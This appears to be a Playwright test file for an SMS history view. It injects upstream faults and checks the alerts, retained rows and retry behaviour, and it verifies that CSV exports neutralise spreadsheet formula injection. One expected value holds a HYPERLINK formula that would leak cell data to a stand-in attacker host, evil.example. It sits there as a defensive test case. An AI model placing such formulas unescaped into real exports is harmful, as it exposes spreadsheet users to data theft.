import { expect, test } from './fixtures'
import { NUMBERS, historyUrl, rowTexts } from './helpers'
import { startProxy, startSimulator } from './stack'

/**
 * Every upstream failure mode, injected through the simulator: the user sees an alert whose
 * words come from the error kind, the rows already on screen stay, and Retry recovers once the
 * fault clears. 5xx is retried (3 upstream calls per action); rejections are not.
 */
const FAULTS: Array<{ name: string; fault: Record<string, unknown>; words: RegExp; detail?: RegExp; calls?: number; retry?: false }> = [
  { name: 'HTTP 500', fault: { kind: 'status', status: 500 }, words: /could not be reached/, detail: /HTTP 500/, calls: 3 },
  { name: 'HTTP 502', fault: { kind: 'status', status: 502 }, words: /could not be reached/, detail: /HTTP 502/, calls: 3 },
  {
    name: 'HTTP 503 with Retry-After',
    fault: { kind: 'status', status: 503, retryAfter: 1 },
    words: /could not be reached/,
    detail: /HTTP 503/,
    calls: 3,
  },
  // Asked to slow down: said so, with when to try again (it read "took too long … in a moment").
  {
    name: 'HTTP 429 with Retry-After',
    fault: { kind: 'status', status: 429, retryAfter: 2 },
    words: /asked Switchboard to slow down/,
    detail: /HTTP 429/,
  },
  { name: 'HTML with status 200', fault: { kind: 'html' }, words: /could not read/, detail: /web page/, calls: 1 },
  { name: 'empty body', fault: { kind: 'empty' }, words: /could not read/, detail: /empty body/, calls: 1 },
  { name: 'truncated JSON', fault: { kind: 'truncated' }, words: /could not read/, detail: /malformed JSON/, calls: 1 },
  { name: 'malformed JSON', fault: { kind: 'malformed' }, words: /could not read/, detail: /malformed JSON/, calls: 1 },
  {
    name: 'JSON missing required fields',
    fault: { kind: 'missing_fields' },
    words: /could not read/,
    detail: /total_message_count/,
    calls: 1,
  },
  {
    name: 'success "0" with a message',
    fault: { kind: 'reject', message: 'Daily limit reached' },
    words: /refused the request/,
    detail: /Daily limit reached/,
    calls: 1,
    retry: false,
  },
  {
    name: 'rejected credentials',
    fault: { kind: 'auth' },
    words: /rejected the account credentials/,
    detail: /API_SYS_ID and API_AUTH_TOKEN/,
    calls: 1,
    retry: false,
  },
  { name: 'a hang past API_TIMEOUT_MS', fault: { kind: 'hang' }, words: /took too long/, detail: /within 3 s/, calls: 1 },
]

test.describe('upstream faults in the history view', () => {
  for (const f of FAULTS) {
    test(`${f.name}: alert in words, rows kept, Retry recovers`, async ({ page, sim }) => {
      await page.goto(historyUrl(NUMBERS.big))
      await expect.poll(async () => (await rowTexts(page, /Messages/, 0))[0]).toBe('1')
      await sim.fault({ op: 'smshistory', number: NUMBERS.big.number, ...f.fault })
      await sim.clearRequests()
      const t0 = Date.now()
      await page.getByRole('button', { name: 'Last page' }).click()
      const alert = page.getByRole('alert')
      await expect(alert).toContainText(f.words, { timeout: 15_000 })
      if (f.detail) await expect(alert).toContainText(f.detail)
      if (f.fault.kind === 'hang') expect(Date.now() - t0).toBeLessThan(6_000)
      expect((await rowTexts(page, /Messages/, 0))[0]).toBe('1')
      // The pager names the rows kept on screen, the alert the records that did not load.
      await expect(page.getByRole('navigation', { name: 'Pagination' }).locator('p[aria-live]')).toHaveText('1–50 of 2,345')
      await expect(alert).toContainText('records 2,301–2,345')
      // Only the page's own requests count: the index's background sync of the same number
      // (started when the history opened) talks to the same upstream with other ranges.
      const pageCalls = (await sim.requests()).requests.filter((r) => r.fields.history_start?.[0] === '2301').length
      if (f.calls !== undefined) expect(pageCalls).toBe(f.calls)
      else expect(pageCalls).toBeGreaterThan(0)
      await sim.clearFaults()
      if (f.retry === false) {
        // A refusal gets the same answer when repeated: no Retry; the hint says what to do instead.
        await expect(alert.getByRole('button', { name: 'Retry' })).toHaveCount(0)
        await expect(alert).toContainText(
          f.fault.kind === 'auth' ? 'Ask whoever runs this Switchboard to check API_SYS_ID and API_AUTH_TOKEN' : 'use Refresh',
        )
        await page.getByRole('button', { name: 'Refresh' }).click()
      } else await alert.getByRole('button', { name: 'Retry' }).click()
      await expect(page.getByRole('alert')).toHaveCount(0)
      await expect.poll(async () => (await rowTexts(page, /Messages/, 0))[0]).toBe('2,301')
    })
  }

  test('latency of 2 s: loading state first, then the data', async ({ page, sim }) => {
    await sim.fault({ op: 'smshistory', number: NUMBERS.big.number, kind: 'latency', ms: 2000, times: 1 })
    await page.goto(historyUrl(NUMBERS.big))
    await expect(page.getByRole('status', { name: 'Loading messages' })).toBeVisible()
    await expect.poll(async () => (await rowTexts(page, /Messages/, 0))[0], { timeout: 6000 }).toBe('1')
    await expect(page.getByRole('alert')).toHaveCount(0)
  })
})

test.describe('hostile cells in the CSV export', () => {
  test('formula-looking cells are neutralised and phone numbers still read as numbers', async ({ page }) => {
    await page.goto(historyUrl(NUMBERS.hostile))
    await expect(page.getByRole('table', { name: /Messages/ })).toBeVisible()
    const { text } = await (await import('./helpers')).downloadText(page, () => page.getByRole('button', { name: 'Export CSV' }).click())
    const rows = (await import('./helpers')).parseCsv(text)
    const col = (name: string) => rows[0]!.indexOf(name)
    const [B, P] = [col('body'), col('party')]
    expect(B).toBeGreaterThanOrEqual(0)
    const body = (needle: string) => rows.find((r) => r[B]?.includes(needle))?.[B]
    expect(body('HYPERLINK')).toBe('\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")')
    expect(body('+1+1')).toBe("'+1+1")
    expect(body('-2+3')).toBe("'-2+3")
    expect(body('@SUM')).toBe("'@SUM(A1:A2)")
    expect(rows.some((r) => r[B] === "'\t=1+1")).toBe(true)
    expect(rows.some((r) => r[B] === "'\r'=1+1")).toBe(true)
    expect(rows.some((r) => r[B] === "' =1+1")).toBe(true)
    expect(rows.some((r) => r[B] === "hello\n'=1+1")).toBe(true)
    expect(rows.some((r) => r[B] === 'nulbyte')).toBe(true)
    expect(text).not.toContain('\u0000')
    // The other party's E.164-like digits are untouched.
    expect(new Set(rows.slice(1).map((r) => r[P]))).toEqual(new Set(['14155550123']))
    for (const r of rows.slice(1)) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })
})

test.describe('the upstream process down', () => {
  test('shows unreachable, keeps rows, and Retry recovers when it is back', async ({ page }) => {
    const simPort = 4021
    let sim = await startSimulator(simPort)
    const proxy = await startProxy(4020, {
      API_BASE_URL: `http://127.0.0.1:${simPort}`,
      API_SYS_ID: 'sim-demo',
      API_AUTH_TOKEN: 'sim-demo-token-7f3a',
      API_TIMEOUT_MS: '1500',
      LOG_REQUESTS: '0',
    })
    try {
      await page.goto(`http://127.0.0.1:4020${historyUrl(NUMBERS.big)}`)
      await expect.poll(async () => (await rowTexts(page, /Messages/, 0))[0]).toBe('1')
      await sim.stop()
      await page.getByRole('button', { name: 'Last page' }).click()
      const alert = page.getByRole('alert')
      await expect(alert).toContainText('could not be reached', { timeout: 15_000 })
      expect((await rowTexts(page, /Messages/, 0))[0]).toBe('1')
      sim = await startSimulator(simPort)
      await alert.getByRole('button', { name: 'Retry' }).click()
      await expect(page.getByRole('alert')).toHaveCount(0)
      await expect.poll(async () => (await rowTexts(page, /Messages/, 0))[0]).toBe('2,301')
    } finally {
      // The page leaves first: its idle preloads would otherwise meet a server going away (a console error).
      await page.goto('about:blank')
      await proxy.stop()
      await sim.stop()
    }
  })
})
